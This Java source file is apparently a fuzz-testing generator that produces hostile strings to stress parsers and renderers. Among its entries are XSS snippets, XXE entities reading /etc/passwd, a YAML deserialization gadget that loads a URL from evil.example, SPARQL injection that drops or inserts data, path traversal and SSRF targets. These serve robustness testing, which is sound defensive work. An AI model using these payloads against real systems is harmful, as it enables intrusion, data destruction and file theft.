package org.lagebild.hostile;

import java.util.List;
import java.util.Random;
import java.util.function.Function;

/** A kind of string that breaks programs which are not written with it in mind. */
enum Hostility {
  CONTROL(r -> "Ada" + (char) (1 + r.nextInt(31)) + (char) (127 + r.nextInt(33)) + "Lenz"),
  BIDI(
      r ->
          pick(r, "\u202E", "\u2066", "\u200F", "\u061C", "\u202D\u202E")
              + "Ada Lenz"
              + pick(r, "\u202C", "\u2069", "", "\u202E")),
  INVISIBLE(
      r -> "A" + pick(r, "\u200B", "\u00AD", "\uFEFF", "\u2060", "\uDB40\uDC41", "\u034F") + "da"),
  SURROGATE(r -> pick(r, "\uD800", "\uDFFF", "\uDC00\uD800", "A\uDBFF", "\uD83D") + "Lenz"),
  BEYOND_THE_PLANE(
      r -> pick(r, "\uD83D\uDE00", "\uD835\uDC00da", "\uDBFF\uDFFF", "\uFFFE", "\uFDD0", "\uFFFF")),
  COMBINING(r -> "Zoe" + "\u0301\u0327\u0489".repeat(1 + r.nextInt(300))),
  LINE_BREAKS(r -> "Ada" + pick(r, "\u2028", "\u2029", "\u0085", "\r", "\u000B", "\f") + "Lenz"),
  LONG_WORD(r -> pick(r, "a", "Ä", "Bundes", "Ab-", "9", ".", "''").repeat(1 + r.nextInt(20_000))),
  NESTED_HTML(r -> "<div><b>".repeat(1 + r.nextInt(2_000)) + "Ada Lenz"),
  MARKUP(
      r ->
          pick(
              r,
              "<script>alert(1)</script>",
              "</rdf:RDF><!--",
              "]]>",
              "&amp;&#0;&#xD800;&nbsp;&lt",
              "<![CDATA[",
              "'\"><img src=x onerror=alert(1)>",
              "--\n---\n...",
              "{\"@context\": \"http://evil.example/\"}")),
  YAML(
      r ->
          pick(
              r,
              "a: &a [x,x]\nb: &b [*a,*a]",
              "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]",
              "&a [*a]",
              "? [[[",
              "- -\t- -",
              "%YAML 9.9",
              "<<: *x")),
  XXE(
      r ->
          pick(
              r,
              "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
              "<!ENTITY % p SYSTEM \"http://127.0.0.1:9/\">%p;",
              "<xi:include href=\"file:///etc/passwd\" parse=\"text\"/>",
              "<?xml-stylesheet href=\"http://127.0.0.1:9/\"?>")),
  SPARQL(
      r ->
          pick(
              r,
              "\"} ; DROP ALL #",
              "?x ?y ?z } UNION { ?a ?b ?c",
              "' . } INSERT DATA { <urn:a> <urn:b> <urn:c> } #",
              "$name\\u0022",
              "<> SERVICE <http://127.0.0.1:9/> {}",
              "BASE <x:> SELECT *")),
  TURTLE(
      r ->
          pick(
              r,
              "\"\"\" . <urn:a> <urn:b> \"\"\"",
              "Lenz\"@de .",
              "\\\"",
              "\\",
              "\\u12",
              "\\U00110000",
              "<urn:x> a <urn:y> .",
              "> <",
              "%zz%%2",
              "_:b0",
              "@prefix : <> .",
              "''' '' \\'''",
              "\"^^<urn:t>")),
  PATH(
      r ->
          pick(
              r,
              "../".repeat(1 + r.nextInt(12)) + HostileArticles.ESCAPED,
              "..",
              ".",
              "/",
              "//",
              "/etc/" + HostileArticles.ESCAPED,
              "C:\\" + HostileArticles.ESCAPED,
              "..\\..\\" + HostileArticles.ESCAPED,
              "file:///tmp/" + HostileArticles.ESCAPED,
              "%2e%2e%2f" + HostileArticles.ESCAPED,
              "~/" + HostileArticles.ESCAPED,
              "a/./../b",
              "#char=0,5",
              "?x=1#y",
              "graph/entities")),
  IRI(
      r ->
          pick(
              r,
              "http://[::1",
              "http://ex ample/<>",
              "javascript:alert(1)",
              "http://user:p@ss@host:99999999/",
              "urn:",
              ":",
              "http://",
              "http://\u00E4\u202E.example/{a}|b",
              "HTTP://EXAMPLE.org/%GG",
              "data:text/html,<x>",
              "https://w3id.org/lagebild/graph/entities",
              "http://a.example/" + "b".repeat(r.nextInt(5_000)))),
  NUMBERS(
      r ->
          pick(
              r,
              "99999999999999999999",
              "-1",
              "0000-00-00",
              "am 31. Februar 2024",
              "im Jahr 999999999999",
              "am 00.00.0000 um 99:99 Uhr",
              "vor 99999999999999 Jahren",
              "9999-12-31",
              "-9999-01-01T25:61",
              "1e999999",
              "in 2147483648 Tagen",
              "NaN")),
  DEPTH(
      r ->
          pick(r, "(", "„", "[", "», sagte «", "der, der ", "dass er sagte, ", "und ", "- ", "\"")
              .repeat(1 + r.nextInt(400))),
  EMPTY(r -> pick(r, "", " ", "\u00A0", "\n", "\t\t", "\u3000"));

  private final Function<Random, String> making;

  Hostility(Function<Random, String> making) {
    this.making = making;
  }

  /** One of its kind. */
  String piece(Random random) {
    return making.apply(random);
  }

  /** One of any kind. */
  static String any(Random random) {
    return values()[random.nextInt(values().length)].piece(random);
  }

  private static String pick(Random random, String... of) {
    return List.of(of).get(random.nextInt(of.length));
  }
}
